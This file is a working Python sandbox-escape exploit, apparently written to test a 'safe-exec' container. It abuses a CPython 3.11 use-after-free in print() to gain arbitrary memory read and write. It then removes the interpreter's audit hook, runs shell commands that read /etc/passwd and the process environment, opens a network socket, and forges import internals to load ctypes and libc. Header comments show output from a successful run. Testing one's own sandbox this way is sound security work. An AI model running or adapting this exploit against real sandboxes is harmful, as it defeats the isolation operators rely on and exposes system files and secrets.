# family: wall (memory: gh-130163, print holding sys.stdout borrowed)   goal: id   interpreter: /usr/bin/python3
# (eleventh wall round, ok_08) FULL ESCAPE with print(): builtin print holds sys.stdout BORROWED (upstream
#        fix believed to be gh-130163, 2025, 3.12+ only: number not verified here):
#        an argument's __str__ that replaces sys.stdout frees the stream print goes
#        on writing to -> the stream's write() runs with a freed self -> raw memory
#        -> audit hook list emptied
#
# Family: memory safety of CPython 3.11 (the print builtin; nothing guarded).
# Mechanism: builtin_print takes file = sys.stdout without a reference. For each
#   argument, PyFile_WriteObject gets file.write (the bound method holds the stream),
#   then str(arg). Our X.__str__ sets sys.stdout back to the real stream: our Out
#   object (__slots__ of six: an 80-byte GC block) is now held by that bound method
#   only and is freed when print drops it after the write. print then writes the
#   separator to the same `file`: the freed block still has Out's type, so the generic
#   getattr finds Out.write and calls it with self = the freed object. There,
#   bytearray(FAKE) (allocated until type(self) reads bytearray: 1 in 3 runs of the
#   first version missed the block, another 80-byte pool being ahead) takes it back (74-byte buffer) with a fake PyByteArrayObject
#   of 2**62 bytes at address 0: self is now a bytearray over all memory. The next
#   argument's write fails (AttributeError: 'bytearray' object has no attribute
#   'write'), which we catch. Then wall10's payload (hook list emptied, all after).
# Goals reached: audit hook removed; `id`; /etc/passwd; environment; AF_INET socket;
#   entrypoint frames and globals; native library (ctypes + libc).
# Plain python3: works in the image's 3.11.2 (docker run --rm --network none -i
#   --entrypoint python3 safe-exec-sandbox:r11 -I - < FILE) and on the host's 3.11.7.
#
# sb-run output (export SAFE_EXEC_IMAGE=safe-exec-sandbox:r11; build/sb-run --full FILE):
#   status: ok   exit_code: 0   
#   duration 78 ms, cpu 39 ms, memory peak 24276 KiB, fresh container
#   --- stdout (756 bytes)
#   bytearray of 0x4000000000000000 bytes at address 0
#   interp+3552: the interpreter's audit hooks: [function b'hook']
#   audit hook list emptied
#   uid=10001(sandbox) gid=10001(sandbox) groups=10001(sandbox)
#   root:x:0:0:root:/root:/bin/bash
#   daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
#   b'PATH=/usr/local/bin:/usr/bin:/bin HOSTNAME=9092b11d0cec LANG=C.UTF-8 HOME=/home/sandbox '
#   AF_INET socket: <socket.socket fd=3, family=2, type=1, proto=0, laddr=('0.0.0.0', 0)>
#   frame: run_user_code | globals: /usr/local/lib/safe-exec/entrypoint.py True
#   frame: runner | globals: /usr/local/lib/safe-exec/entrypoint.py True
#   frame: main | globals: /usr/local/lib/safe-exec/entrypoint.py True
#   frame: <module> | globals: None False
#   ctypes loaded, libc getpid() = 6 getuid() = 10001
#   --- stderr (0 bytes)
#
import sys
import asyncio
os = sys.modules["os"]
keep = []
W = lambda v: v.to_bytes(8, "little")
FAKE = (W(0) + W(0) + W(1 << 40) + W(id(bytearray)) + W(1 << 62) + W(1 << 62)
        + W(0) + W(0) + W(1))[:73]
real = sys.stdout
phase = [0]
got = []
class Out:                                 # the program's stdout: an 80-byte GC block
    __slots__ = ("a", "b", "c", "d", "e", "f")
    def write(self, s):
        if phase[0] == 2:                  # called on the FREED stream (print's borrowed file)
            phase[0] = 3
            for _ in range(4096):          # take its block back: self becomes a fake bytearray
                keep.append(bytearray(FAKE))   # (80-byte class; another pool may be
                if type(self) is bytearray:    #  ahead of its own: allocate until it
                    break                      #  is reached, read its ob_type to see)
            got.append(self)
        elif phase[0] == 1:
            phase[0] = 2                   # first write: still alive (its bound method holds it)
        return len(s)
class X:
    def __str__(self):
        sys.stdout = real                  # drops sys's reference: print's `file` is borrowed
        phase[0] = 1
        return "x"
def raw_memory():
    sys.stdout = Out()
    try:
        print(X(), "y")                    # arg 0 written, writer dropped -> Out freed; the
    except AttributeError:                 # separator's write calls Out.write on freed memory
        pass
    return got[0]
mem = raw_memory()
print(type(mem).__name__, "of", hex(len(mem)), "bytes at address 0", flush=True)
rd = lambda a: int.from_bytes(mem[a:a + 8], "little")
# image's /usr/bin/python3.11 (3.11.2): &_PyRuntime - &PyType_Type, main interpreter,
# audit_hooks (measured for wall7 ok_05 with ctypes outside the sandbox)
OFF_RT, OFF_INTERP, OFF_HOOKS = 1060224, 58936, (3552, 3880)
interp = id(type) + OFF_RT + OFF_INTERP
for off in OFF_HOOKS:
    lst = rd(interp + off)
    if not lst or rd(lst + 8) != id(list) or rd(lst + 16) != 1:
        continue
    fn = rd(rd(lst + 24))
    if rd(fn + 8) != id(type(rd)):
        continue
    name = rd(fn + 32)                                      # func_name
    text = bytes(mem[name + 48:name + 48 + rd(name + 16)])  # compact ASCII str
    print("interp+%d: the interpreter's audit hooks: [function %r]" % (off, text))
    if text == b"hook":
        mem[lst + 16:lst + 24] = bytes(8)                   # ob_size = 0: no hook
        print("audit hook list emptied", flush=True)
os.system("id; head -2 /etc/passwd")
print(open("/proc/self/environ", "rb").read().replace(b"\0", b" "))
socket = sys.modules["socket"]
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM); print("AF_INET socket:", s)
# frames and globals of the entrypoint (sys._getframe is no longer audited)
f = sys._getframe(0)
while f.f_back is not None:
    f = f.f_back
    print("frame:", f.f_code.co_name, "| globals:", f.f_globals.get("__file__"), "WALL_EXIT" in f.f_globals)
# a native library: _imp's loaders are the wall's stubs and the originals are gone;
# forged back with the memory view: a copy of a real _imp function object whose m_ml
# points at the method table entry of create_dynamic / exec_dynamic.
_imp = sys.modules["_imp"]
def entry(name):
    ml0 = rd(id(_imp.is_builtin) + 16)             # PyCFunctionObject.m_ml (imp_methods[])
    for k in range(0, 16):                          # the loaders follow is_builtin
        p = rd(ml0 + 32 * k)
        if p == 0:
            return None
        if bytes(mem[p:p + len(name) + 1]) == name + b"\0":
            return ml0 + 32 * k
keepalive = []
def forge(model, name):
    # 16 zero bytes (an untracked GC head), then a copy of the model with m_ml changed
    buf = bytearray(16) + bytearray(mem[id(model):id(model) + 56])
    buf[16:24] = (1 << 40).to_bytes(8, "little")
    buf[32:40] = entry(name).to_bytes(8, "little")
    keepalive.append(buf)
    addr = rd(id(buf) + 32) + 16                    # the bytearray's ob_start + 16
    holder = [None]
    mem[rd(id(holder) + 24):rd(id(holder) + 24) + 8] = addr.to_bytes(8, "little")
    return holder[0]
_imp.create_dynamic = forge(_imp._fix_co_filename, b"create_dynamic")   # METH_FASTCALL
_imp.exec_dynamic = forge(_imp.is_builtin, b"exec_dynamic")           # METH_O
ctypes = sys.modules["importlib"].import_module("ctypes")
libc = ctypes.CDLL("libc.so.6")
print("ctypes loaded, libc getpid() =", libc.getpid(), "getuid() =", libc.getuid())
sys.stdout.flush()
os._exit(0)
